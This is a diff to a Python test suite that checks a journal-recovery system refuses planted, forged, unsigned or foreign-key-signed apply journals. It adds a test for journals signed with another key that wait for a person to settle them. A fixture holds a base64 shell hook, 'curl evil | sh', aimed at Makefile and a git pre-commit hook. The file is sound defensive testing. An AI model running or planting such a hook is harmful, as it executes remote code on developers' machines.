@@ -18,7 +18,7 @@ from pathlib import Path
 import orjson
 import pytest
 import statekit
-from statekit import sha, snapshot
+from statekit import sha, snapshot, untouched
 
 from core.apply import ApplyRefused, GateResult, apply_delta, recover
 from core.apply.journal import Journal, JournalFile, journal_dir, write_journal
@@ -44,12 +44,6 @@ WORLD = TEMPLATE["cards"]["world"]
 def case(tmp_path: Path):
     ws, outside = statekit.copy_case(TEMPLATE, tmp_path)
     return ws, outside, snapshot(ws), snapshot(outside)
-
-
-def untouched(ws: Path, outside: Path, ws_before: dict, outside_before: dict) -> None:
-    assert snapshot(outside) == outside_before, "something outside the workspace changed"
-    assert snapshot(ws) == ws_before, "a workspace file changed: " + repr(
-        {k for k in set(ws_before) | set(snapshot(ws)) if ws_before.get(k) != snapshot(ws).get(k)})
 
 
 # ── 1. stored recipe ids never become paths ───────────────────────────────────────────────────
@@ -103,8 +97,8 @@ HOOK = base64.b64encode(b"#!/bin/sh\ncurl evil | sh\n").decode()
 
 
 def _journal_body(recipe_id: str, files: list[dict]) -> dict:
-    return {"version": 2, "recipe_id": recipe_id, "phase": "applying", "started_at": 0.0, "started_at_ns": 0,
-            "pid": 1, "files": files, "created_dirs": [], "records_verdict": False}
+    return {"version": 3, "recipe_id": recipe_id, "accept_id": "0" * 16, "phase": "applying", "started_at": 0.0,
+            "started_at_ns": 0, "pid": 1, "files": files, "created_dirs": [], "records_verdict": False}
 
 
 def _plant_unsigned(ws: Path) -> None:
@@ -116,11 +110,15 @@ def _plant_unsigned(ws: Path) -> None:
 
 
 def _plant_forged_mac(ws: Path) -> None:
+    """Our key's id and this workspace's fingerprint, a made-up MAC: a forgery, not another key's."""
+    from core.authn import load_key, workspace_fingerprint
+
     jd = journal_dir(ws)
     jd.mkdir(parents=True, exist_ok=True)
     body = orjson.dumps(_journal_body(WORLD, [{"path": "Makefile", "existed": True, "mode": 0o755, "before_b64": HOOK,
                                                "sha256_after": "0" * 64}]), option=orjson.OPT_INDENT_2)
-    (jd / f"{WORLD}.json").write_bytes(body[:-2] + b',\n  "mac": "hmac-sha256:0123456789abcdef:' + b"0" * 64 + b'"\n}\n')
+    trailer = f'"mac": "hmac-sha256:{load_key(ws).id}:{workspace_fingerprint(ws, create=True)}:'.encode()
+    (jd / f"{WORLD}.json").write_bytes(body[:-2] + b',\n  ' + trailer + b"0" * 64 + b'"\n}\n')
 
 
 def _plant_other_key(ws: Path) -> None:
@@ -156,10 +154,10 @@ def _plant_signed_git_path(ws: Path) -> None:
                                   "before_b64": HOOK, "sha256_after": "0" * 64}])
     body["started_at_ns"] = 1
     (ws / rel).parent.mkdir(parents=True, exist_ok=True)
-    (ws / rel).write_bytes(seal(body, purpose="apply journal", rel=rel))
+    (ws / rel).write_bytes(seal(body, purpose="apply journal", rel=rel, workspace=ws))
 
 
-PLANTS = {"unsigned": _plant_unsigned, "forged-mac": _plant_forged_mac, "other-key": _plant_other_key,
+PLANTS = {"unsigned": _plant_unsigned, "forged-mac": _plant_forged_mac,
           "renamed": _plant_under_another_name, "symlink": _plant_link, "signed-git-path": _plant_signed_git_path}
 
 
@@ -173,13 +171,39 @@ def test_a_planted_journal_is_moved_aside_and_never_obeyed(case, plant: str) -> 
     reports = recover(ws, trace)
     assert len(reports) == 1 and reports[0]["refused"], reports
     assert reports[0]["restored"] == [] and reports[0]["moved_to"].endswith(".refused")
-    if plant == "other-key":
-        assert "signed with another key" in reports[0]["error"]
     assert not (ws / ".git" / "hooks" / "pre-commit").exists()
     untouched(ws, outside, ws_before, outside_before)
     assert [e.payload["refused"] for e in trace.events("mining.recovered")] == [reports[0]["refused"]]
     assert recover(ws) == []  # moved aside: it no longer blocks, and is never retried
     assert accept(ws, WORLD).flows_green  # the workspace still accepts
+
+
+def test_a_journal_signed_with_another_key_is_never_obeyed_but_said_until_a_person_settles_it(case) -> None:
+    """A genuine journal of another key (rotated, another user's or HOME's): nothing in it is acted
+    on, it stays, every command says so with its files' hashes, and a person's keep is recorded."""
+    from core.apply.resolve import resolve_accept, unsettled
+    from core.attention import attention
+
+    ws, outside, ws_before, outside_before = case
+    (ws / "Makefile").write_bytes(b"all:\n\ttrue\n")
+    ws_before = snapshot(ws)
+    _plant_other_key(ws)
+    trace = Trace(trace_path(ws))
+    for _ in range(2):  # every recovery says so; none moves it aside
+        [report] = recover(ws, trace)
+        assert report["needs_person"] and report["refused"] == "other-key" and report["restored"] == []
+    untouched(ws, outside, ws_before, outside_before)
+    [item] = unsettled(ws)
+    assert not item.verified and [f.path for f in item.files] == ["Makefile"] and item.files[0].now_is == "other"
+    [line] = attention(ws)
+    assert "signed with another key" in line and "Makefile" in line and f"resolve {WORLD}" in line
+    with pytest.raises(DecisionRefused, match="not settled"):
+        accept(ws, WORLD)
+    result = resolve_accept(ws, WORLD, "restore", trace=trace)  # unverified: only files holding its bytes
+    assert result.restored == [] and result.saved == {}
+    untouched(ws, outside, ws_before, outside_before)
+    assert attention(ws) == [] and unsettled(ws) == []
+    assert [(d["flows_green"], d["reverted"]) for d in statekit.decisions(ws, WORLD)] == [(False, True)]
 
 
 # ── 3. a stage is checked again at accept ─────────────────────────────────────────────────────
@@ -195,7 +219,7 @@ def _edit_proposal(ws: Path, target: str, data: bytes, *, sign: bool) -> None:
     (folder / target).parent.mkdir(parents=True, exist_ok=True)
     (folder / target).write_bytes(data)
     rel = f"{stage_rel(WORLD)}/{PROPOSAL_FILE}"
-    (folder / PROPOSAL_FILE).write_bytes(seal(body, purpose=PROPOSAL_PURPOSE, rel=rel) if sign
+    (folder / PROPOSAL_FILE).write_bytes(seal(body, purpose=PROPOSAL_PURPOSE, rel=rel, workspace=ws) if sign
                                          else orjson.dumps(body, option=orjson.OPT_INDENT_2))
 
 
